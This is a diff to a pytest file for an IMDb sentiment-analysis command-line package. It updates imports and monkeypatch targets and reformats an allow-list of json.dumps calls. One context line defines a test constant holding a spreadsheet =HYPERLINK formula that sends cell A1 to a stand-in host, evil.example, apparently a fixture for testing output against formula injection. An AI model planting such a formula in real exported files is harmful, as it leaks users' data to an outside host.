@@ -40,11 +40,12 @@ import pytest
 
 from IMDb import console
 from IMDb.analysis import cache
+from IMDb.cli import commands
 from IMDb.cli import imdb_leap as cli
-from IMDb.output import formats
 from IMDb.config.run import REPO_ROOT
 from IMDb.errors import DataError
-from IMDb.output.atomic import REPORT_MARKER, atomic_dir
+from IMDb.output import formats
+from IMDb.output.folders import REPORT_MARKER, atomic_dir
 from tests.test_counterfactual import GOOD
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -168,7 +169,7 @@ def test_an_interrupt_a_library_turned_into_its_own_error_is_reported_as_one(mon
         _swallowed_interrupt()
         raise ValueError("Invalid bounding box")  # matplotlib's Agg, interrupted inside draw_path
 
-    monkeypatch.setattr(cli, "_predict", report_stage)
+    monkeypatch.setattr(commands, "predict", report_stage)
     assert cli.main(["predict", "x"]) == console.INTERRUPTED == 130
     assert capsys.readouterr().err == "imdb-leap: interrupted\n"
 
@@ -215,11 +216,11 @@ def _full_disk(monkeypatch) -> None:
 def _analyze_that_writes_a_report(monkeypatch):
     """`imdb-leap analyze` whose stages are replaced by a finished report's inputs (the stages
     need trained Keras models): what is left is the report stage, where the disk fills up."""
-    from IMDb.analysis import run
+    from IMDb.analysis import analyze
     from IMDb.analysis.report import write_report
     from tests.test_analysis_report import make_inputs
 
-    monkeypatch.setattr(run, "run_analysis", lambda name, state, out, **kw: write_report(
+    monkeypatch.setattr(analyze, "run_analysis", lambda name, state, out, **kw: write_report(
         out, make_inputs(), plotly_js="", overwrite=kw["overwrite"]))
 
 
@@ -270,8 +271,9 @@ def test_the_json_writer_writes_null_for_what_is_not_a_number():
 def test_only_the_writer_calls_json_dumps():
     """Every JSON the package writes goes through `IMDb.output.formats`; the other json.dumps calls make a
     hash or a message, not a file."""
-    allowed = {("IMDb/training/bert_finetune.py", "hashlib.sha256(json.dumps("), ("IMDb/text/wordpiece.py", "hashlib.sha256(json.dumps("),
-               ("IMDb/text/word_tokenizer.py", "payload = json.dumps("), ("IMDb/bundle.py", "got {json.dumps(value)[:60]}"), ("IMDb/bundle.py", "shown = json.dumps(value)"),
+    allowed = {("IMDb/training/bert_finetune.py", "hashlib.sha256(json.dumps("),
+               ("IMDb/text/wordpiece.py", "hashlib.sha256(json.dumps("),
+               ("IMDb/text/word_tokenizer.py", "payload = json.dumps("), ("IMDb/card.py", "shown = json.dumps(value)"),
                ("IMDb/training/export.py", 'f.attrs["model_config"] = json.dumps(config)')}
     found = set()
     for path in (REPO_ROOT / "IMDb").rglob("*.py"):
